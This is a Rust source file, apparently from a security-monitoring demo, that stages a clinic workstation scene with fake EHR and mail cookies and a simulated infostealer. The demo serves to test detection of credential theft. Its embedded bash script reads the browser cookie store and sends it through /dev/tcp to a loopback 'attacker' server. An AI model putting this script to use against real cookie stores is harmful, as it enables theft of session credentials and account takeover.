//! The scene on this host: the practice-management client at work (a copy of `cw-workload`
//! talking to a stand-in vendor API), the doctor's browser cookie store, and the attack
//! this project exists for: an infostealer outside the app reads the cookies, then sends
//! them to a server new to the clinic (on a loopback address: nothing leaves the machine).

use std::{
    io::Read as _,
    net::{SocketAddr, TcpListener},
    path::{Path, PathBuf},
    process::{Command, Stdio},
    sync::mpsc,
};

use anyhow::{bail, Context as _};

use super::procs::{Children, Piped};

/// The infostealer's two steps, run by a copy of bash under the name it drops itself as:
/// one process opens and reads the store, waits for the demo's word (so that the agent has
/// seen the read first), then connects and sends what it read.
const STEALER: &str = r#"# chrome-sync: an infostealer, reduced to what it does.
exec 3< "$1" || exit 1              # the browser's cookie store
IFS= read -r -d '' loot <&3
exec 3<&-
echo "read ${#loot}"
read -r _                           # (the demo says when)
exec 4<> "/dev/tcp/$2/$3" || exit 1 # its server
printf '%s' "$loot" >&4
exec 4>&-
echo "sent ${#loot}"
"#;

pub struct Scene {
    /// The stand-in practice-management client (what the agent watches).
    pub app: PathBuf,
    /// Its patient database.
    pub patients: PathBuf,
    /// The doctor's browser cookie store (what the agent protects).
    pub cookies: PathBuf,
    /// The infostealer: a copy of bash, and its script.
    stealer: PathBuf,
    script: PathBuf,
}

fn bash() -> anyhow::Result<PathBuf> {
    ["/bin/bash", "/usr/bin/bash"]
        .iter()
        .map(PathBuf::from)
        .find(|p| p.exists())
        .context("the demo's infostealer is a bash script: install bash")
}

/// Fake cookies for a web EHR and a mailbox: about 24 KiB.
fn cookie_store() -> String {
    let mut s = String::from("# Netscape HTTP Cookie File\n");
    for i in 0..240 {
        let host = if i % 2 == 0 {
            ".portal.ehr.example"
        } else {
            ".mail.clinic.example"
        };
        s.push_str(&format!(
            "{host}\tTRUE\t/\tTRUE\t1767225600\tSESSION{i:03}\t{:064x}\n",
            (i as u128 + 1) * 0x9e37_79b9_7f4a_7c15
        ));
    }
    s
}

impl Scene {
    /// The files under `dir`: the app (a copy of `workload`), its data, the doctor's home.
    pub fn stage(dir: &Path, workload: &Path) -> anyhow::Result<Scene> {
        let pm = dir.join("pm");
        let profile = dir.join("home/doctor/.config/chromium/Default");
        let drop = dir.join("home/doctor/.cache/chrome-sync");
        for d in [&pm, &profile, &drop] {
            std::fs::create_dir_all(d)?;
        }
        let app = pm.join("pm-client");
        std::fs::copy(workload, &app).with_context(|| {
            format!(
                "cannot copy `{}` (cargo xtask build --release)",
                workload.display()
            )
        })?;
        let patients = pm.join("patients.db");
        std::fs::write(&patients, vec![b'p'; 4 << 20])?;
        let cookies = profile.join("Cookies");
        std::fs::write(&cookies, cookie_store())?;
        let stealer = drop.join("chrome-sync");
        std::fs::copy(bash()?, &stealer)?;
        let script = drop.join("sync.sh");
        std::fs::write(&script, STEALER)?;
        Ok(Scene {
            app,
            patients,
            cookies,
            stealer,
            script,
        })
    }

    /// The app's normal day: 64 KiB of its database and 512 B to its vendor every 200 ms.
    pub fn start_app(&self, children: &mut Children, vendor: SocketAddr) -> anyhow::Result<()> {
        children.spawn(
            "pm-client",
            Command::new(&self.app)
                .arg("pm-normal")
                .arg(&self.patients)
                .arg(vendor.to_string())
                .arg("86400")
                .stdin(Stdio::null())
                .stdout(Stdio::null()),
            libc::SIGTERM,
        )?;
        Ok(())
    }

    /// Starts the infostealer against `to`: it reads the cookies, then waits for a line.
    pub fn start_stealer(&self, children: &mut Children, to: SocketAddr) -> anyhow::Result<Piped> {
        let child = children.spawn_job(
            "the infostealer",
            Command::new(&self.stealer)
                .arg(&self.script)
                .arg(&self.cookies)
                .arg(to.ip().to_string())
                .arg(to.port().to_string())
                .stdin(Stdio::piped())
                .stdout(Stdio::piped()),
        )?;
        Piped::new(child)
    }
}

/// Accepts connections on `l` and reads each to its end; `got` hears each one's bytes.
fn drain(l: TcpListener, got: Option<mpsc::Sender<u64>>) {
    std::thread::spawn(move || {
        for s in l.incoming() {
            let Ok(mut s) = s else { continue };
            let got = got.clone();
            std::thread::spawn(move || {
                let mut n = 0u64;
                let mut buf = [0u8; 16 * 1024];
                while let Ok(k @ 1..) = s.read(&mut buf) {
                    n += k as u64;
                }
                if let Some(tx) = got {
                    let _ = tx.send(n);
                }
            });
        }
    });
}

/// The stand-in vendor API the app talks to all day.
pub fn vendor_api() -> anyhow::Result<SocketAddr> {
    let l = TcpListener::bind("127.0.0.1:0").context("cannot listen on 127.0.0.1")?;
    let addr = l.local_addr()?;
    drain(l, None);
    Ok(addr)
}

/// The infostealer's server, on a loopback address of its own (127.77.0.1:443, or another
/// port if that one is taken); the receiver hears how many bytes each connection brought.
pub fn stealer_server() -> anyhow::Result<(SocketAddr, mpsc::Receiver<u64>)> {
    let l = match TcpListener::bind("127.77.0.1:443") {
        Ok(l) => l,
        Err(_) => TcpListener::bind("127.77.0.1:0")
            .context("cannot listen on 127.77.0.1 (the loopback network 127.0.0.0/8)")?,
    };
    let addr = l.local_addr()?;
    if !addr.ip().is_loopback() {
        bail!("{addr} is not a loopback address");
    }
    let (tx, rx) = mpsc::channel();
    drain(l, Some(tx));
    Ok((addr, rx))
}
